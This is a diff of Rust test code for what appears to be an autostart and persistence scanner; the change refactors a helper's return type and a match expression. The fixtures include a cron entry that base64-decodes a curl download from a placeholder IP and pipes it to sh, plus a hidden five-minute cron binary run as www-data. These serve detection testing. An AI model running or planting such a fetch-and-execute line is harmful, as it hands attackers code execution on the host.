@@ -42,8 +42,8 @@ pub(super) fn entry(kind: AutostartKind, path: &str, line: u32, text: &str) -> A
     }
 }
 
-fn runs(program: &str, exists: bool, packaged: Packaged) -> Option<Target> {
-    Some(Target { program: program.into(), exists: Reading::Known(exists), packaged })
+fn runs(program: &str, exists: bool, packaged: Packaged) -> Target {
+    Target { program: program.into(), exists: Reading::Known(exists), packaged }
 }
 
 fn packaged(mut entry: Autostart, name: &str) -> Autostart {
@@ -65,7 +65,7 @@ fn usual() -> Vec<Autostart> {
         "*/5 * * * * /var/tmp/.x/up",
     );
     up.user = Some("www-data".into());
-    up.runs = runs("/var/tmp/.x/up", true, Packaged::No);
+    up.runs = Some(runs("/var/tmp/.x/up", true, Packaged::No));
     let base64 = "@reboot echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L3guc2ggfCBzaA== | base64 -d | sh";
     let mut packed = entry(AutostartKind::Cron, "/var/spool/cron/crontabs/malee", 1, base64);
     packed.user = Some("malee".into());
@@ -75,7 +75,7 @@ fn usual() -> Vec<Autostart> {
         6,
         "ExecStart=/usr/local/bin/netmon --quiet",
     );
-    unit.runs = runs("/usr/local/bin/netmon", false, Packaged::Unknown);
+    unit.runs = Some(runs("/usr/local/bin/netmon", false, Packaged::Unknown));
     unit.remarks = vec![Remark::Enabled, Remark::RestartsAlways];
     unit.immutable = Reading::Known(true);
     let mut altered = entry(
@@ -85,7 +85,7 @@ fn usual() -> Vec<Autostart> {
         "ExecStart=/usr/sbin/sshd -D",
     );
     altered.packaged = Packaged::Unchanged("openssh-server".into());
-    altered.runs = runs("/usr/sbin/sshd", true, Packaged::Changed("openssh-server".into()));
+    altered.runs = Some(runs("/usr/sbin/sshd", true, Packaged::Changed("openssh-server".into())));
     let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMadeUpKeyMadeUpKeyMadeUpKeyMadeUpKeyMadeUpKe1 malee@desk.example";
     vec![
         up,
@@ -138,11 +138,12 @@ fn desk(language: Language) -> Desk {
 }
 
 fn events(effects: &[Effect]) -> Vec<(AutostartChange, String)> {
-    let event = |effect: &Effect| match effect {
-        Effect::Record { event: Event::Autostart { change, path, line, .. }, .. } => {
-            Some((*change, format!("{}:{line}", path.printable())))
-        }
-        _ => None,
+    let event = |effect: &Effect| {
+        let Effect::Record { event: Event::Autostart { change, path, line, .. }, .. } = effect
+        else {
+            return None;
+        };
+        Some((*change, format!("{}:{line}", path.printable())))
     };
     effects.iter().filter_map(event).collect()
 }
